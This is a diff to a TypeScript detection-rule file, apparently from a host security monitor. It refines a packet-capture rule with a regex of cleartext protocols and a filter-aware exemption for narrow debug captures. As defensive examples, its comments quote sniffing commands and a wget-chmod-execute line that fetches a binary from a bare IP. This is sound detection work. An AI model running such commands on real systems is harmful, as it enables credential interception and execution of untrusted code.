@@ -371,17 +371,32 @@ const spoofedUserAgent: Rule = {
   },
 };
 
-/** `tcpdump -i eth0`, `tshark -i any`: packets captured on the host (T1040); everyday debugging too, hence low. */
+/** Protocols that carry passwords or data in clear, by port or name, in a capture filter. */
+const CLEARTEXT_PROTOCOL = /^(?:21|23|25|80|110|143|389|513|514|1433|3306|5432|6379|8080|ftp|telnet|smtp|http|pop3?|imap|ldap)$/i;
+/**
+ * `tcpdump -i eth0`, `tshark -i any -w x.pcap`, `tcpdump -A port 80`: packets captured on the host (T1040): everything,
+ * to a file, payloads printed, or a cleartext protocol's. Everyday debugging too, hence low; a capture narrowed by a
+ * filter to other traffic (`tcpdump -i flannel.1 -nn port 8472 -c 100`) is debugging a flow and stays quiet.
+ */
 const packetCapture: Rule = {
   name: 'packet-capture',
   category: 'suspicious_network',
   severity: 'low',
   techniques: ['T1040'],
   match: (s): Evidence | undefined => {
-    const inv = invocationsOf(s, ...SNIFFERS).find((i) => !i.args.some((a) => /^(?:-r|--read-file|-D|--list-interfaces|-h|--help|--version|-v|-V)$/.test(a) || /^-[a-zA-Z]*r$/.test(a)) && (i.args.length > 0 || i.program !== 'tshark'));
+    const inv = invocationsOf(s, ...SNIFFERS).find((i) => !i.args.some((a) => /^(?:-r|--read-file|-D|--list-interfaces|-h|--help|--version|-v|-V)$/.test(a) || /^-[a-zA-Z]*r$/.test(a)) && (i.args.length > 0 || i.program !== 'tshark') && !isNarrowDebugCapture(i.args));
     return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
   },
 };
+
+/** A capture filter, not written to a file, payloads not printed, and naming no cleartext protocol. */
+function isNarrowDebugCapture(args: readonly string[]): boolean {
+  const filter = args.filter((a, i) => !a.startsWith('-') && !/^-[a-zA-Z]*[icswWCGEFyBjJTVzZ]$/.test(args[i - 1] ?? '') || args[i - 1] === '-f').join(' ');
+  const words = filter.split(/[\s()]+/).filter(Boolean);
+  const selects = words.some((w) => /^(?:port|portrange|host|net|src|dst|tcp|udp|icmp6?|arp|vxlan|proto)$/.test(w));
+  const recordsOrPrints = args.some((a) => /^-[a-zA-Z]*[wAX]|^--(?:write|hex|ascii)/.test(a));
+  return selects && !recordsOrPrints && !words.some((w) => CLEARTEXT_PROTOCOL.test(w));
+}
 
 /**
  * `wget http://203.0.113.5/x -O x; chmod +x x; ./x`, `curl -o y http://h/y && sh y`: a file fetched from a bare address,
